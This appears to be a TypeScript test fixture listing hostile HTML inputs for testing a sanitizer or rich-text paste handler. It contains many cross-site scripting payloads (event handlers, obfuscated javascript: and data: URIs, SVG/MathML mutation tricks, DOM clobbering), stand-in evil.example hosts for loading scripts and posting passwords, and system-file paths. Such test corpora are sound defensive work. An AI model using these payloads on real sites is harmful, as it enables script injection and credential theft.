/** For tests: HTML that means harm. `ran` is what it would set, `evil.example` what it would call. */
const RUN = "globalThis.ran=1";

const handlers = [
  `<p onclick="${RUN}">文</p>`,
  `<img src=x onerror="${RUN}">`,
  `<body onload="${RUN}">文`,
  `<details open ontoggle="${RUN}"><summary>文</summary></details>`,
  `<input autofocus onfocus="${RUN}" value="口令">`,
  `<marquee onstart="${RUN}">文</marquee>`,
  `<div onpointerrawupdate="${RUN}" style="position:fixed;inset:0">文</div>`,
  `<p onanimationstart="${RUN}" style="animation:x">文</p>`,
  `<a href="https://example.cn/" onmouseover="${RUN}">文</a>`,
  `<p/onclick=${RUN}/class=x>文</p>`,
  `<p "onclick=${RUN}" onclick\n=\n${RUN}>文`,
  `<img/src='x'/onerror\u000c=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<table background="javascript:${RUN}"><tr><td onclick=${RUN}>甲<td>乙</table>`,
];

const scripts = [
  `<script>${RUN}</script>文`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>文`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>文`,
  `<<script>${RUN}//<</script>`,
  `<script/x>${RUN}</script>`,
  `<script>${RUN}`,
  `<!--><script>${RUN}</script>-->文`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->文`,
  `<![CDATA[<script>${RUN}</script>]]>文`,
  `<?xml version="1.0"?><script>${RUN}</script>文`,
  `<script type="module">${RUN}</script>`,
  `<script type="text/template"><img src=x onerror=${RUN}></script>文`,
  `\u0000<scr\u0000ipt>${RUN}</script>文`,
];

const address = (href: string) => `<p>前<a href="${href}">点</a>后</p>`;
const links = [
  "javascript:globalThis.ran=1",
  "JaVaScRiPt:globalThis.ran=1",
  " javascript:globalThis.ran=1",
  "java\tscript:globalThis.ran=1",
  "java\nscript:globalThis.ran=1",
  "java&#10;script:globalThis.ran=1",
  "&#106;avascript:globalThis.ran=1",
  "&#x6A&#x61vascript:globalThis.ran=1",
  "javascript&colon;globalThis.ran=1",
  "\u0001javascript:globalThis.ran=1",
  "javascript\u200b:globalThis.ran=1",
  "ｊavascript:globalThis.ran=1",
  "vbscript:msgbox(1)",
  "data:text/html,<script>globalThis.ran=1</script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "DATA:image/svg+xml,<svg onload=globalThis.ran=1>",
  "file:///C:/Windows/win.ini",
  "blob:https://example.cn/x",
  "tauri://localhost/",
  "ipc://localhost/call",
  "view-source:https://example.cn/",
  "//evil.example/x",
  "https:evil.example",
  "https://example.cn\u202e/gpj.exe",
  "mailto:",
  "javascript:/*https://*/globalThis.ran=1",
].map(address);

const namespaces = [
  `<svg onload="${RUN}"><text>图</text></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>点</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">点</maction></math>`,
  `<math href="javascript:${RUN}">式</math>文`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">文`,
  `<svg><desc><table><tr><td><script>${RUN}</script>`,
];

const raw = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">文`,
  `<style><img src=x onerror=${RUN}></style>文`,
  `<title><img src=x onerror=${RUN}></title>文`,
  `<textarea><script>${RUN}</script></textarea>文`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>文`,
  `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>文`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<noembed><img src=x onerror=${RUN}></noembed>文`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>文`,
  `<iframe src="javascript:parent.ran=1"></iframe>文`,
  `<object data="https://evil.example/x.swf" type="text/html"><p>文</p></object>`,
  `<embed src="javascript:${RUN}">文`,
  `<form action="https://evil.example/"><input name=p type=password>文<button formaction="javascript:${RUN}">送</button></form>`,
  `<base href="https://evil.example/"><p>文<a href="x">点</a></p>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">文`,
  `<link rel=stylesheet href="https://evil.example/x.css">文`,
  `<p is="x-evil">文</p><x-evil>字</x-evil>`,
  `<p>&lt;script&gt;${RUN}&lt;/script&gt;</p>`,
  `<p>&amp;lt;img src=x onerror=${RUN}&amp;gt;</p>`,
];

const styles = [
  `<p style="background:url(https://evil.example/x.png)">文</p>`,
  `<p style="width:expression(${RUN})">文</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">文</p>`,
  `<style>@import "https://evil.example/x.css";p{background:url(https://evil.example/y)}</style><p>文</p>`,
  `<style>p{font-weight:bold;}}}}{{{/* /* */ .a:not(.b){}</style><p class="a __proto__ constructor">文</p>`,
  `<img src="https://evil.example/p.png" srcset="https://evil.example/q.png 2x" alt="<b>">文`,
  `<picture><source srcset="https://evil.example/p.png"><img src="//evil.example/p.png"></picture>文`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ii8vIj4=">文`,
  `<p style="text-align:center\\";}</style><script>${RUN}</script>">文</p>`,
];

const clobbering = [
  `<form><input name=firstChild><input name=parentNode><input name=nodeName><input name=getAttribute>文</form>`,
  `<form name=createTreeWalker></form><img name=documentElement><img name=body><img name=querySelector>文`,
  `<form id=x><input name=attributes><input name=nodeType><input name=nextSibling><p>文</p></form>`,
  `<a id=document></a><a id=document name=body></a><p id=schema>文</p>`,
  `<p id="__proto__" class="__proto__ hasOwnProperty" data-id="constructor">文</p><constructor>字</constructor><toString>串</toString>`,
];

const slices = [
  `<p data-pm-slice='1 1 ["heading",{"level":"&lt;img src=x onerror=1>"}]'>文</p>`,
  `<p data-pm-slice='0 0 ["figure",{"media":"x"}]'>文</p>`,
  `<p data-pm-slice='1 1 ["text",{}]'>文</p>`,
  `<p data-pm-slice='1 1 ["__proto__",null,"constructor",{}]'>文</p>`,
  `<p data-pm-slice='99 99 -9 ["blockquote",null]'>文</p>`,
  `<p data-pm-slice='1 1 null'>文</p>`,
  `<p data-pm-slice='1 1 ["bullet_list",null]'>文</p>`,
  `<p data-pm-slice='0 0 ["list_item",null,"table",null]'>文</p>`,
  `<p data-pm-slice='9 9 ["blockquote",{"id":"\\" onclick=1"}]'>文</p>`,
  `<li data-pm-slice="0 0 []"><ul><li>文</li></ul></li>`,
  `<td data-pm-slice="5 0 -3 []">文</td>`,
  `<p data-pm-slice="1 1 []" onclick="${RUN}" data-align="evil" data-id='"><script>'>文<script>${RUN}</script></p>`,
  `<p data-pm-slice="0 0 []"><a href="javascript:${RUN}">点</a><span data-footnote="" onclick=${RUN}>注<b>释</b></span></p>`,
  `<figure data-pm-slice="0 0 []" data-media="../../etc/passwd" data-alt="<script>"><figcaption>说</figcaption></figure>`,
  `<table data-pm-slice="0 0 []"><tbody><tr><td colspan="999999" rowspan="999999">文</td></tr></tbody></table>`,
];

const broken = [
  "<p>\u202e反\u2066转\u0000\u0008文\ud800</p>",
  "<p>" + "a\u0301\u0323".repeat(200) + "</p>",
  `<table><tr><td colspan=1000000 rowspan=1000000>文<td colspan=-1 rowspan=0>字<tr><td colspan=x>末</table>`,
  "<ul>".repeat(300) + "<li>文",
  "<blockquote>".repeat(300) + "文",
  "<table><tr><td>".repeat(120) + "文",
  "<p><table><p></table><td></p><li><tr></ol>文</b></i></a>",
  "<a href='https://example.cn/'><a href='https://example.cn/b'><p>文</a>字",
  "<",
  "</",
  "<!",
  "<!--",
  "<p x='",
  "&#0;&#xD800;&#x110000;&#128;",
];

/** All of them. */
export const hostile: string[] = [
  ...handlers,
  ...scripts,
  ...links,
  ...namespaces,
  ...raw,
  ...styles,
  ...clobbering,
  ...slices,
  ...broken,
];
